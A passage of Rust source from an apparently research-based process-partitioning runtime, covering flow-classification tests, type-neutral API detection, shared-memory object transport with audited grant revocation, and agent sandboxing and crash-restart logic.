        let t = classify_flows(&set(&[FlowOp::write(Storage::Mem, Storage::Mem)]));
        assert_eq!(t, ApiType::DataProcessing);
        assert_eq!(classify_flows(&set(&[])), ApiType::DataProcessing);
    }

    #[test]
    fn file_to_memory_is_loading() {
        let t = classify_flows(&set(&[FlowOp::write(Storage::Mem, Storage::File)]));
        assert_eq!(t, ApiType::DataLoading);
        let t = classify_flows(&set(&[FlowOp::write(Storage::Mem, Storage::Dev)]));
        assert_eq!(t, ApiType::DataLoading);
    }

    #[test]
    fn memory_to_file_is_storing() {
        let t = classify_flows(&set(&[FlowOp::write(Storage::File, Storage::Mem)]));
        assert_eq!(t, ApiType::Storing);
    }

    #[test]
    fn gui_wins_over_everything() {
        let t = classify_flows(&set(&[
            FlowOp::write(Storage::Mem, Storage::File),
            FlowOp::write(Storage::Gui, Storage::Mem),
        ]));
        assert_eq!(t, ApiType::Visualizing);
        assert_eq!(
            classify_flows(&set(&[FlowOp::Read(Storage::Gui)])),
            ApiType::Visualizing
        );
    }

    #[test]
    fn temp_file_roundtrip_reduces_to_loading_for_get_file() {
        // get_file: download (DEV→MEM) + spill + refill.
        let flows = set(&[
            FlowOp::write(Storage::Mem, Storage::Dev),
            FlowOp::write(Storage::File, Storage::Mem),
            FlowOp::write(Storage::Mem, Storage::File),
        ]);
        assert_eq!(classify_flows(&flows), ApiType::DataLoading);
        // Without the device read, a pure spill+refill is processing.
        let flows = set(&[
            FlowOp::write(Storage::File, Storage::Mem),
            FlowOp::write(Storage::Mem, Storage::File),
        ]);
        assert_eq!(classify_flows(&flows), ApiType::DataProcessing);
    }

    #[test]
    fn reduction_preserves_lone_sides() {
        // A lone store does not reduce.
        let flows = set(&[FlowOp::write(Storage::File, Storage::Mem)]);
        assert_eq!(reduce_flows(&flows), flows);
    }
}
