//! Type-neutral API detection (paper §4.2 "Type-neutral Framework
//! APIs").
//!
//! An API is *type neutral* when (a) it only moves memory to memory, and
//! (b) application traces show it being used adjacent to APIs of more
//! than one type (`cvtColor` next to `imread` in one place and next to
//! `GaussianBlur`/`imshow` in another). Such APIs are executed in the
//! agent of their calling context instead of pinning a partition.

use crate::hybrid::HybridReport;
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use freepart_frameworks::ir::{FlowOp, Storage};
use std::collections::{BTreeMap, BTreeSet};

fn is_mem_only(report: &HybridReport, id: ApiId) -> bool {
    let c = &report.per_api[&id];
    let mem_mem = FlowOp::write(Storage::Mem, Storage::Mem);
    let flows: BTreeSet<FlowOp> = match &c.dynamic_result {
        Some(d) => d.flows.iter().copied().collect(),
        None => c.static_result.flows.clone(),
    };
    !flows.is_empty() && flows.iter().all(|f| *f == mem_mem)
        || (flows.is_empty() && c.final_type == ApiType::DataProcessing)
}

/// Detects type-neutral APIs from observed application call sequences.
///
/// `sequences` are per-application API-call orders (as the offline
/// profiling runs record them).
pub fn detect_type_neutral(
    reg: &ApiRegistry,
    report: &HybridReport,
    sequences: &[Vec<ApiId>],
) -> BTreeSet<ApiId> {
    // For each API, the set of *typed* neighbours it appears next to.
    let mut neighbour_types: BTreeMap<ApiId, BTreeSet<ApiType>> = BTreeMap::new();
    for seq in sequences {
        for (i, &id) in seq.iter().enumerate() {
            let mut note = |other: ApiId| {
                let t = report.type_of(other);
                neighbour_types.entry(id).or_default().insert(t);
            };
            if i > 0 {
                note(seq[i - 1]);
            }
            if i + 1 < seq.len() {
                note(seq[i + 1]);
            }
        }
    }
    reg.iter()
        .filter(|s| {
            report.per_api.contains_key(&s.id)
                && is_mem_only(report, s.id)
                && neighbour_types.get(&s.id).is_some_and(|ts| ts.len() >= 2)
        })
        .map(|s| s.id)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dynamic::TestCorpus;
    use crate::hybrid::categorize;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn cvtcolor_detected_as_neutral_from_mixed_contexts() {
        let reg = standard_registry();
        let report = categorize(&reg, &TestCorpus::full(&reg));
        let imread = reg.id_of("cv2.imread").unwrap();
        let cvt = reg.id_of("cv2.cvtColor").unwrap();
        let blur = reg.id_of("cv2.GaussianBlur").unwrap();
        let imshow = reg.id_of("cv2.imshow").unwrap();
        // App A uses cvtColor right after loading; app B between
        // processing and visualizing.
        let sequences = vec![vec![imread, cvt, blur], vec![blur, cvt, imshow]];
        let neutral = detect_type_neutral(&reg, &report, &sequences);
        assert!(neutral.contains(&cvt));
        // imread moves FILE→MEM: never neutral, whatever its neighbours.
        assert!(!neutral.contains(&imread));
    }

    #[test]
    fn single_context_api_is_not_neutral() {
        let reg = standard_registry();
        let report = categorize(&reg, &TestCorpus::full(&reg));
        let cvt = reg.id_of("cv2.cvtColor").unwrap();
        let blur = reg.id_of("cv2.GaussianBlur").unwrap();
        let erode = reg.id_of("cv2.erode").unwrap();
        // cvtColor only ever appears between processing APIs here.
        let sequences = vec![vec![blur, cvt, erode]];
        let neutral = detect_type_neutral(&reg, &report, &sequences);
        assert!(!neutral.contains(&cvt));
    }

    #[test]
    fn detection_agrees_with_registry_flags_on_catalog_examples() {
        let reg = standard_registry();
        let report = categorize(&reg, &TestCorpus::full(&reg));
        let imread = reg.id_of("cv2.imread").unwrap();
        let alloc = reg.id_of("cv2.cvAlloc").unwrap();
        let imshow = reg.id_of("cv2.imshow").unwrap();
        let sequences = vec![vec![imread, alloc, imshow]];
        let neutral = detect_type_neutral(&reg, &report, &sequences);
        assert!(neutral.contains(&alloc), "cvAlloc used across types");
    }
}
