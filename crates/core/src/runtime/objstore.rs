//! The object plane: host-side data definition, host dereferences,
//! per-object transport selection (Eager / Lazy / Shm), re-protection
//! after moves, and the temporal-grant sweep that tears shared-memory
//! views down at framework-state transitions.

use super::transport::{Transport, TransportCtx, EAGER, LAZY, SHM};
use super::{CallError, Runtime, ThreadId};
use crate::partition::PartitionId;
use crate::policy::HostDataPlacement;
use crate::state::StateMachine;
use crate::trace::{AuditRecord, SpanEvent, SpanPhase};
use freepart_frameworks::{ObjectId, ObjectKind, ObjectMeta};
use freepart_simos::{Perms, Pid, ShmId};

impl Runtime {
    // ------------------------------------------------------------------
    // Host-side data
    // ------------------------------------------------------------------

    /// Allocates host-resident application data (the paper's annotated
    /// critical data structures, e.g. OMRChecker's `template`). The
    /// object participates in temporal protection.
    pub fn host_data(&mut self, label: &str, bytes: &[u8]) -> ObjectId {
        let home = match self.policy.host_data {
            HostDataPlacement::Host => self.host,
            HostDataPlacement::WithType(t) => {
                let p = self.policy.plan.partition_of_type(t);
                self.agents.get(&p).map_or(self.host, |a| a.pid)
            }
            HostDataPlacement::OwnProcessEach => self.kernel.spawn(&format!("data:{label}")),
        };
        let id = self
            .objects
            .create_with_data(&mut self.kernel, home, ObjectKind::Blob, label, bytes)
            .expect("data home is alive");
        if self.policy.host_data == HostDataPlacement::OwnProcessEach {
            self.pinned.insert(id, home);
        }
        self.define_everywhere(id);
        id
    }

    /// Creates a host-homed object of an arbitrary kind (driver-level
    /// plumbing for pipelines that need a pre-existing tensor/Mat).
    pub fn host_object(&mut self, kind: ObjectKind, label: &str, bytes: &[u8]) -> ObjectId {
        let id = self
            .objects
            .create_with_data(&mut self.kernel, self.host, kind, label, bytes)
            .expect("host is alive");
        self.define_everywhere(id);
        id
    }

    pub(super) fn define_on(&mut self, thread: ThreadId, id: ObjectId) {
        // First definer wins the ownership record: the owner index is
        // what lets the pooled hot paths (capability gate, per-tenant
        // grant sweeps, re-protection) skip every other tenant's state.
        self.owner_of.entry(id).or_insert(thread);
        self.states
            .entry(thread)
            .or_insert_with(|| StateMachine::new(self.policy.temporal_protection))
            .define(id);
    }

    /// Registers annotated host data with *every* live thread's state
    /// machine: critical data must stay protected no matter which thread
    /// drives the pipeline past its defining state.
    fn define_everywhere(&mut self, id: ObjectId) {
        self.shared_objs.insert(id);
        for sm in self.states.values_mut() {
            sm.define(id);
        }
    }

    /// Reads an object's payload from the host's perspective — a host
    /// dereference. Host-resident payloads short-circuit to a plain
    /// local read: no IPC, no timeline merge, no trace. Remote
    /// buffer-backed payloads are *copied* to the host (a counted
    /// non-lazy copy) without moving the object's home; remote
    /// shm-resident payloads are read through a host-mapped view of the
    /// segment — zero bytes copied.
    ///
    /// # Errors
    ///
    /// [`CallError::StateLost`] when the payload died with a crashed
    /// agent.
    pub fn fetch_bytes(&mut self, id: ObjectId) -> Result<Vec<u8>, CallError> {
        let meta = self
            .objects
            .meta(id)
            .ok_or(CallError::StateLost(id))?
            .clone();
        // Reading your own memory is just a read: skip the hazard merge
        // and the fetch machinery entirely. (A producer call can only
        // have made the host the home by migrating the payload back on
        // the host's own timeline, so the merge would be a no-op.)
        if meta.home == self.host {
            return self
                .objects
                .read_bytes(&mut self.kernel, id)
                .map_err(|_| CallError::StateLost(id));
        }
        // Batch hazard: dereferencing an object an open batch's member
        // touched forces the batch's frames out before the host reads.
        self.flush_batch_if_touched(id);
        // LDC-deref ordering: dereferencing a payload touched by an
        // in-flight call orders the host after that producing call.
        if let Some(&ns) = self.last_touch.get(&id) {
            self.kernel.advance_timeline_to(self.host, ns);
        }
        let tracing = self.tracer.enabled();
        let fetch_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        if let Some((seg, len)) = meta.shm {
            // Zero-copy host deref: grant the host a read-only view of
            // the segment once, then read through the mapping.
            let viewed = self
                .kernel
                .shm_segment(seg)
                .is_some_and(|s| s.grant_of(self.host).is_some() && s.is_mapped(self.host));
            if !viewed {
                self.kernel
                    .shm_grant(seg, self.host, Perms::R)
                    .and_then(|()| self.kernel.shm_map(self.host, seg))
                    .map_err(|_| CallError::StateLost(id))?;
                if tracing {
                    let at_ns = self.kernel.now_ns();
                    self.tracer.record_audit(AuditRecord::ShmGrant {
                        at_ns,
                        object: id,
                        segment: seg,
                        pid: self.host,
                        bytes: len,
                    });
                }
            }
            let bytes = self
                .kernel
                .shm_read(self.host, seg)
                .map_err(|_| CallError::StateLost(id))?;
            if tracing {
                let now = self.kernel.now_ns();
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::HostFetch,
                    seq: self.seq,
                    api: None,
                    partition: None,
                    thread: ThreadId::MAIN,
                    start_ns: fetch_t0,
                    end_ns: now,
                    bytes: len,
                });
            }
            return Ok(bytes);
        }
        if let Some((addr, len)) = meta.buffer {
            let bytes = self
                .kernel
                .mem_read(meta.home, addr, len)
                .map_err(|_| CallError::StateLost(id))?;
            self.kernel.charge_copy(len);
            self.stats.host_copies += 1;
            self.charge_transport(len);
            if tracing {
                let now = self.kernel.now_ns();
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::HostFetch,
                    seq: self.seq,
                    api: None,
                    partition: None,
                    thread: ThreadId::MAIN,
                    start_ns: fetch_t0,
                    end_ns: now,
                    bytes: len,
                });
            }
            return Ok(bytes);
        }
        self.objects
            .read_bytes(&mut self.kernel, id)
            .map_err(|_| CallError::StateLost(id))
    }

    /// Ships a pinned object back to its dedicated data process after a
    /// use (the per-access IPC of the code-based API+data baseline).
    pub(super) fn return_pinned(
        &mut self,
        seq: u64,
        thread: ThreadId,
        id: ObjectId,
    ) -> Result<(), CallError> {
        if let Some(&pin) = self.pinned.get(&id) {
            let home = self.objects.meta(id).map(|m| m.home);
            if home != Some(pin) && self.kernel.is_running(pin) {
                let len = self.objects.meta(id).map_or(0, |m| m.len());
                let tracing = self.tracer.enabled();
                let copy_t0 = if tracing { self.kernel.now_ns() } else { 0 };
                self.objects
                    .migrate_direct(&mut self.kernel, id, pin)
                    .map_err(|_| CallError::StateLost(id))?;
                self.stats.host_copies += 1;
                self.charge_transport(len);
                if tracing {
                    let now = self.kernel.now_ns();
                    self.tracer.add_eager_bytes(seq, len);
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::DataCopy,
                        seq,
                        api: None,
                        partition: None,
                        thread,
                        start_ns: copy_t0,
                        end_ns: now,
                        bytes: len,
                    });
                }
                self.reapply_all(id);
            }
        }
        Ok(())
    }

    // ------------------------------------------------------------------
    // Transport selection and delivery
    // ------------------------------------------------------------------

    /// Picks the payload transport for one object bound for
    /// `partition`: segments stay on the Shm transport once promoted;
    /// payloads at or above the threshold in force for the partition
    /// (static policy, or the adaptive controller's per-partition knob)
    /// are promoted; everything else follows the LDC flag.
    fn transport_for(&self, partition: PartitionId, meta: &ObjectMeta) -> &'static dyn Transport {
        if meta.shm.is_some() {
            return &SHM;
        }
        if meta.buffer.is_some()
            && self
                .shm_threshold_for(partition)
                .is_some_and(|t| meta.len() >= t)
        {
            return &SHM;
        }
        if self.policy.lazy_data_copy {
            &LAZY
        } else {
            &EAGER
        }
    }

    /// Moves one object into the executing agent via the selected
    /// transport, re-applying temporal protection afterwards.
    pub(super) fn move_to_agent(
        &mut self,
        thread: ThreadId,
        partition: PartitionId,
        seq: u64,
        obj: ObjectId,
        agent_pid: Pid,
    ) -> Result<(), CallError> {
        let meta = self
            .objects
            .meta(obj)
            .ok_or(CallError::StateLost(obj))?
            .clone();
        if meta.home == agent_pid {
            return Ok(());
        }
        if meta.buffer.is_none() && meta.shm.is_none() {
            // Buffer-less handles (windows, captures) carry no payload:
            // re-homing them is free and never lossy.
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            return Ok(());
        }
        // A dead home loses buffer-backed payloads; segment payloads are
        // kernel-owned and survive their last user's crash.
        if meta.shm.is_none() && !self.kernel.is_running(meta.home) {
            return Err(CallError::StateLost(obj));
        }
        let transport = self.transport_for(partition, &meta);
        let tracing = self.tracer.enabled();
        let copy_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        {
            let mut ctx = TransportCtx {
                kernel: &mut self.kernel,
                objects: &mut self.objects,
                stats: &mut self.stats,
                tracer: &mut self.tracer,
                host: self.host,
                seq,
                penalty: self.policy.transport.penalty_factor(),
            };
            transport.deliver(&mut ctx, obj, agent_pid)?;
        }
        if tracing {
            // The move span closes *before* re-protection so Reprotect
            // time attributes to the mprotect bucket, not the copy one.
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: transport.span_phase(),
                seq,
                api: None,
                partition: None,
                thread,
                start_ns: copy_t0,
                end_ns: now,
                bytes: meta.len(),
            });
        }
        // Delivery is the only shm-promotion site: index the segment so
        // the revocation sweeps never rescan the whole object table.
        if self.objects.meta(obj).is_some_and(|m| m.shm.is_some()) {
            self.shm_index.insert(obj);
            if let Some(&owner) = self.owner_of.get(&obj) {
                self.shm_owned.entry(owner).or_default().insert(obj);
            }
        }
        self.reapply_all(obj);
        Ok(())
    }

    /// Charges the transport penalty for moving `bytes` over a pipe
    /// instead of shared memory.
    pub(super) fn charge_transport(&mut self, bytes: u64) {
        let factor = self.policy.transport.penalty_factor();
        if factor > 1 {
            let base = self.kernel.cost_model().copy_cost(bytes);
            self.kernel.charge_time(base * (factor - 1));
        }
    }

    /// Re-applies temporal protection from whichever thread's machine
    /// tracks the object (after a migration re-materialized it writable).
    /// Owned objects consult only their owner's machine — O(1) in the
    /// thread/tenant count; shared (annotated host) data still scans
    /// every machine, as any thread may be protecting it.
    pub(super) fn reapply_all(&mut self, obj: ObjectId) {
        let threads: Vec<ThreadId> = match self.owner_of.get(&obj) {
            Some(&owner) if !self.shared_objs.contains(&obj) => self
                .states
                .get(&owner)
                .filter(|s| s.is_protected(obj))
                .map(|_| vec![owner])
                .unwrap_or_default(),
            _ => self
                .states
                .iter()
                .filter(|(_, s)| s.is_protected(obj))
                .map(|(t, _)| *t)
                .collect(),
        };
        if threads.is_empty() {
            return;
        }
        let tracing = self.tracer.enabled();
        let before = if tracing {
            Some((self.kernel.now_ns(), self.kernel.metrics().protected_pages))
        } else {
            None
        };
        for t in &threads {
            if let Some(sm) = self.states.get(t) {
                sm.reapply(&mut self.kernel, &self.objects, obj).ok();
            }
        }
        if let Some((t0, pages0)) = before {
            let now = self.kernel.now_ns();
            let pages = self.kernel.metrics().protected_pages - pages0;
            self.tracer.record_audit(AuditRecord::Reprotect {
                at_ns: t0,
                object: obj,
                pages,
            });
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Reprotect,
                seq: self.seq,
                api: None,
                partition: None,
                thread: threads[0],
                start_ns: t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// The temporal-grant sweep: at a framework-state transition, every
    /// shared-memory view held by a process other than the segment's
    /// current user is revoked — the segment analogue of the mprotect
    /// storm. Runs inside the drain barrier (no call in flight), so a
    /// stale agent's next access faults instead of racing the sweep.
    /// One audit record per revoked `(segment, pid)` pair.
    /// Revokes every shared-memory view a dead process still holds —
    /// the shm half of reaping a crashed agent, run inside the same
    /// drain barrier as the respawn. One audit record per revoked view,
    /// exactly as at framework-state transitions. (The kernel's `reap`
    /// would drop the table entries silently; sweeping here first keeps
    /// revocation audited.)
    pub(super) fn revoke_views_of(&mut self, dead: Pid, seq: u64) {
        debug_assert!(self.shm_index_consistent(), "shm index drifted");
        let shm_objs: Vec<(ObjectId, ShmId)> = self
            .shm_index
            .iter()
            .filter_map(|&id| {
                self.objects
                    .meta(id)
                    .and_then(|m| m.shm.map(|(seg, _)| (id, seg)))
            })
            .collect();
        for (obj, seg) in shm_objs {
            if self.kernel.shm_revoke(seg, dead).unwrap_or(false) && self.tracer.enabled() {
                let at_ns = self.kernel.now_ns();
                self.tracer.record_audit(AuditRecord::ShmRevoke {
                    at_ns,
                    object: obj,
                    segment: seg,
                    pid: dead,
                    seq,
                });
            }
        }
    }

    pub(super) fn revoke_out_of_state_grants(&mut self, seq: u64) {
        debug_assert!(self.shm_index_consistent(), "shm index drifted");
        let objs: Vec<ObjectId> = self.shm_index.iter().copied().collect();
        self.revoke_stale_grants_on(&objs, seq);
    }

    /// Per-tenant grant sweep for pooled mode: only the transitioning
    /// tenant's segments (plus shared annotated data, which its state
    /// machine also locks) are swept — O(1) in the tenant count, where
    /// the global sweep is O(total shm objects).
    pub(super) fn revoke_out_of_state_grants_for(&mut self, thread: ThreadId, seq: u64) {
        let mut objs: Vec<ObjectId> = self
            .shm_owned
            .get(&thread)
            .map(|s| s.iter().copied().collect())
            .unwrap_or_default();
        for &obj in &self.shared_objs {
            if self.shm_index.contains(&obj) {
                objs.push(obj);
            }
        }
        objs.sort_unstable();
        objs.dedup();
        self.revoke_stale_grants_on(&objs, seq);
    }

    /// Revokes every grant on `objs`' segments held by a process other
    /// than the segment's current home. Ascending object order — the
    /// same order the pre-index full table scan produced, so audit logs
    /// and replay digests are unchanged.
    fn revoke_stale_grants_on(&mut self, objs: &[ObjectId], seq: u64) {
        for &obj in objs {
            let Some((seg, home)) = self
                .objects
                .meta(obj)
                .and_then(|m| m.shm.map(|(seg, _)| (seg, m.home)))
            else {
                continue;
            };
            let stale: Vec<Pid> = self
                .kernel
                .shm_segment(seg)
                .map(|s| s.grants().map(|(p, _)| p).filter(|p| *p != home).collect())
                .unwrap_or_default();
            for pid in stale {
                if self.kernel.shm_revoke(seg, pid).unwrap_or(false) && self.tracer.enabled() {
                    let at_ns = self.kernel.now_ns();
                    self.tracer.record_audit(AuditRecord::ShmRevoke {
                        at_ns,
                        object: obj,
                        segment: seg,
                        pid,
                        seq,
                    });
                }
            }
        }
    }

    /// Debug-build invariant: the shm index names exactly the objects the
    /// store holds segment-backed.
    fn shm_index_consistent(&self) -> bool {
        let full: std::collections::BTreeSet<ObjectId> = self
            .objects
            .iter()
            .filter_map(|m| m.shm.map(|_| m.id))
            .collect();
        full == self.shm_index
    }
}
