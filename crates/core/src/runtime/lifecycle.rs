//! Agent lifecycle: sealing the per-agent syscall filter, stateful
//! snapshots, crash restarts, and crash auditing. Everything here is
//! about the agent *process*, not the calls flowing through it.
//!
//! Restarts run under a **supervisor** (DESIGN.md §13): the crashed pid
//! is reaped (address space freed, shm views revoked with audit),
//! snapshots restore incrementally from write-epoch-verified bytes, a
//! pre-forked warm spare is adopted when the policy pools one, and a
//! token-bucket budget turns respawn loops into an audited, fail-fast
//! degraded partition.

use super::{Agent, RestartGovernor, Runtime, SnapshotEntry, SnapshotPlace, ThreadId};
use crate::partition::PartitionId;
use crate::policy::SandboxLevel;
use crate::syscall_policy::build_filter;
use crate::trace::{AuditRecord, SpanEvent, SpanPhase};
use freepart_frameworks::api::ApiId;
use freepart_frameworks::{ObjectId, ObjectKind, ObjectMeta};
use freepart_simos::{FaultKind, Perms, Pid, ProcessState};
use std::collections::{BTreeSet, VecDeque};

impl Runtime {
    /// Installs and locks the partition's syscall filter (§4.4.1): the
    /// allowlist is derived from the APIs routed to this agent, then
    /// sealed with no-new-privs so not even the agent can widen it.
    ///
    /// A failed `install_filter` must never leave the agent running
    /// unsandboxed with `sealed = false`: debug builds panic, release
    /// builds audit ([`AuditRecord::SealFailed`]) and degrade the
    /// partition to fail-fast errors.
    pub(super) fn seal_agent(&mut self, partition: PartitionId) {
        let agent = self.agents.get_mut(&partition).expect("agent exists");
        let pid = agent.pid;
        let apis = agent.apis.clone();
        let Ok(process) = self.kernel.process(pid) else {
            return;
        };
        let mut filter = match self.policy.sandbox {
            SandboxLevel::None => return,
            SandboxLevel::PerAgent => build_filter(&self.reg, &self.profile, &apis, process),
            SandboxLevel::CoarseUnion => {
                // Whole-library sandbox: everything the library could
                // ever need, including mprotect for lazy loading — the
                // hole code-rewriting exploits walk through.
                let all: BTreeSet<ApiId> = self.reg.iter().map(|s| s.id).collect();
                let mut f = build_filter(&self.reg, &self.profile, &all, process);
                f.allow(freepart_simos::SyscallNo::Mprotect);
                f
            }
        };
        filter.lock();
        match self.kernel.install_filter(pid, filter) {
            Ok(()) => {
                // PR_SET_NO_NEW_PRIVS: the configuration is now immutable
                // even from inside the process. Goes through the logged
                // kernel entry point so the seal lands in the commit log
                // (the replay auditor's filter-immutability rule keys off
                // this record).
                let _ = self.kernel.set_no_new_privs(pid);
                self.agents
                    .get_mut(&partition)
                    .expect("agent exists")
                    .sealed = true;
            }
            Err(e) => {
                debug_assert!(false, "install_filter failed for {partition}: {e:?}");
                if self.tracer.enabled() {
                    let at_ns = self.kernel.now_ns();
                    self.tracer.record_audit(AuditRecord::SealFailed {
                        at_ns,
                        partition,
                        pid,
                        error: format!("{e:?}"),
                    });
                }
                self.degrade_partition(partition);
            }
        }
    }

    /// Takes a partition out of service: the agent record is dropped
    /// (hooked calls fail fast with `AgentUnavailable`) and the sticky
    /// degraded flag blocks any future respawn.
    fn degrade_partition(&mut self, partition: PartitionId) {
        self.agents.remove(&partition);
        let now = self.kernel.now_ns();
        self.governors
            .entry(partition)
            .or_insert(RestartGovernor {
                tokens: 0,
                last_refill_ns: now,
                streak: 0,
                degraded: false,
            })
            .degraded = true;
    }

    /// Records restorable copies of the partition's stateful objects
    /// (captures, models, classifiers) for use after a crash restart.
    ///
    /// Incremental mode (`Policy::incremental_snapshots`) piggybacks on
    /// the same page machinery temporal protection uses: an object whose
    /// payload sits at the same home, at the same place, with an
    /// unchanged write epoch since the previous snapshot cannot have
    /// changed — its prior bytes are reused and only the (cheap) kind
    /// and label are refreshed. Pages locked read-only across the whole
    /// interval keep their epoch by construction, so the paper's
    /// "stayed read-only ⇒ unchanged" rule falls out as a special case.
    pub(super) fn take_snapshot(&mut self, partition: PartitionId) {
        // A degraded or budget-denied partition has no agent; there is
        // nothing to snapshot (mirrors `seal_agent`'s early return).
        let Some(agent) = self.agents.get(&partition) else {
            return;
        };
        let pid = agent.pid;
        let stateful: Vec<ObjectId> = self
            .objects
            .iter()
            .filter(|m| {
                m.home == pid
                    && matches!(
                        m.kind,
                        ObjectKind::Capture { .. }
                            | ObjectKind::Model { .. }
                            | ObjectKind::Classifier { .. }
                    )
            })
            .map(|m| m.id)
            .collect();
        let incremental = self.policy.incremental_snapshots;
        let prev: Vec<SnapshotEntry> = if incremental {
            self.snapshots.get(&partition).cloned().unwrap_or_default()
        } else {
            Vec::new()
        };
        let mut entries = Vec::new();
        for id in stateful {
            let meta = self.objects.meta(id).expect("listed above").clone();
            let place = self.snapshot_place(&meta);
            let clean_bytes = if incremental && place != SnapshotPlace::None {
                prev.iter()
                    .find(|p| p.object == id && p.home == pid && p.place == place)
                    .map(|p| p.bytes.clone())
            } else {
                None
            };
            let bytes = match clean_bytes {
                Some(bytes) => {
                    self.kernel.note_snapshot_skip();
                    bytes
                }
                None => {
                    let b = self
                        .objects
                        .read_bytes(&mut self.kernel, id)
                        .unwrap_or_default();
                    self.kernel.note_snapshot_copy(b.len() as u64);
                    b
                }
            };
            entries.push(SnapshotEntry {
                object: id,
                // Kind and label are always re-read: `kind` carries live
                // state (e.g. a capture's frames_read) that moves without
                // touching payload pages.
                kind: meta.kind,
                label: meta.label,
                bytes,
                home: pid,
                place,
            });
        }
        self.snapshots.insert(partition, entries);
    }

    /// Where `meta`'s payload lives right now, stamped with the write
    /// epoch observed there. `None` (no payload, or unreadable epoch)
    /// is never considered clean.
    fn snapshot_place(&self, meta: &ObjectMeta) -> SnapshotPlace {
        if let Some((seg, _)) = meta.shm {
            if let Some(s) = self.kernel.shm_segment(seg) {
                return SnapshotPlace::Shm {
                    seg,
                    epoch: s.write_epoch(),
                };
            }
        }
        if let Some((addr, len)) = meta.buffer {
            if let Some(epoch) = self.kernel.write_epoch(meta.home, addr, len.max(1)) {
                return SnapshotPlace::Buffer { addr, epoch };
            }
        }
        SnapshotPlace::None
    }

    /// Respawns a crashed agent: new process (a pre-forked warm spare
    /// when pooled), new code page, channel rebound, the crashed pid
    /// reaped (shm views revoked with audit, address space freed),
    /// stateful snapshots restored (with temporal protection re-applied
    /// to them), the completion journal carried over, and — if the old
    /// process was already sealed — the syscall filter re-sealed
    /// immediately so the sandbox never reopens in the respawn window.
    /// Crashed-process variable values are deliberately **not**
    /// restored (§6).
    pub fn restart_agent(&mut self, partition: PartitionId) {
        self.restart_agent_on(partition, ThreadId::MAIN);
    }

    /// [`Runtime::restart_agent`] attributed to the application thread
    /// whose call triggered the restart (distinct trace rows per thread).
    pub(super) fn restart_agent_on(&mut self, partition: PartitionId, thread: ThreadId) {
        let tracing = self.tracer.enabled();
        let restart_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let Some(agent) = self.agents.remove(&partition) else {
            return;
        };
        // The respawned agent's traffic may look nothing like its
        // predecessor's: drop the adaptive controller's accumulated
        // estimates for this partition. Knobs are deliberately left
        // alone — knob changes happen only at drain barriers.
        if let Some(c) = self.controller.as_mut() {
            c.reset_partition(partition);
        }
        let chan = agent.chan;
        let was_sealed = agent.sealed;
        let old_pid = agent.pid;
        if !self.take_restart_token(partition) {
            // Budget exhausted (or already degraded): no respawn. The
            // corpse is still reaped so a degraded partition does not
            // leak its dead address space; subsequent calls fail fast
            // with `AgentUnavailable`.
            self.reap_agent(old_pid);
            return;
        }
        let spare = self
            .spares
            .get_mut(&partition)
            .and_then(VecDeque::pop_front);
        let (new_pid, code_page) = match spare {
            // Warm path: adopt the pre-forked process — no spawn, no
            // code-page allocation, on the critical path only rebind,
            // reap, restore, and reseal.
            Some(s) => (s.pid, s.code_page),
            None => {
                let pid = self.kernel.spawn(&format!("agent:{partition}+"));
                let code_page = self
                    .kernel
                    .alloc(pid, freepart_simos::PAGE_SIZE, Perms::RX)
                    .expect("fresh agent allocates");
                (pid, code_page)
            }
        };
        self.kernel
            .rebind_channel(chan, new_pid)
            .expect("channel exists");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid: new_pid,
                chan,
                code_page,
                apis: agent.apis,
                sealed: false,
                calls: agent.calls,
                // The journal of completed calls lives with the rebound
                // channel, not the dead process: the respawned agent can
                // still answer re-delivered requests it already executed.
                cache: agent.cache,
                // So do the tenant capability slots: every tenant's
                // namespace is re-admitted wholesale, or cross-tenant
                // denials after a restart would hit legitimate owners.
                caps: agent.caps,
            },
        );
        // Reap the corpse inside the same drain barrier as the respawn:
        // audited shm revocation first (one `ShmRevoke` per view, as at
        // state transitions), then the kernel frees the address space
        // and purges the remaining grant/map table entries.
        self.reap_agent(old_pid);
        // Restore snapshotted stateful objects into the new process, then
        // re-apply temporal protection — the restore writes into fresh RW
        // pages, and restart must not leave protected objects writable.
        let force_fail = self.fail_next_restore == Some(partition);
        if force_fail {
            self.fail_next_restore = None;
        }
        if let Some(entries) = self.snapshots.get(&partition).cloned() {
            let mut lost: Vec<ObjectId> = Vec::new();
            for entry in entries {
                let restored = if force_fail {
                    Err("injected restore failure".to_owned())
                } else {
                    match self
                        .kernel
                        .alloc(new_pid, entry.bytes.len().max(1) as u64, Perms::RW)
                    {
                        Ok(addr) => match self.kernel.mem_write(new_pid, addr, &entry.bytes) {
                            Ok(()) => Ok(addr),
                            Err(e) => Err(format!("{e:?}")),
                        },
                        Err(e) => Err(format!("{e:?}")),
                    }
                };
                match restored {
                    Ok(addr) => {
                        if let Some(meta) = self.objects.meta_mut(entry.object) {
                            meta.home = new_pid;
                            meta.buffer = Some((addr, entry.bytes.len() as u64));
                            meta.kind = entry.kind.clone();
                            meta.label = entry.label.clone();
                        }
                        self.reapply_all(entry.object);
                    }
                    Err(reason) => {
                        // A failed restore must not leave `meta.home`
                        // dangling at the reaped pid: surface it and
                        // quarantine the object, so later uses get a
                        // clean `StateLost` instead of resolving against
                        // a corpse.
                        if tracing {
                            let at_ns = self.kernel.now_ns();
                            self.tracer.record_audit(AuditRecord::SnapshotLost {
                                at_ns,
                                partition,
                                object: entry.object,
                                reason,
                            });
                        }
                        self.quarantine_object(entry.object);
                        lost.push(entry.object);
                    }
                }
            }
            if !lost.is_empty() {
                if let Some(entries) = self.snapshots.get_mut(&partition) {
                    entries.retain(|e| !lost.contains(&e.object));
                }
            }
        }
        if was_sealed && self.policy.sandbox != SandboxLevel::None {
            self.seal_agent(partition);
        }
        self.stats.restarts += 1;
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
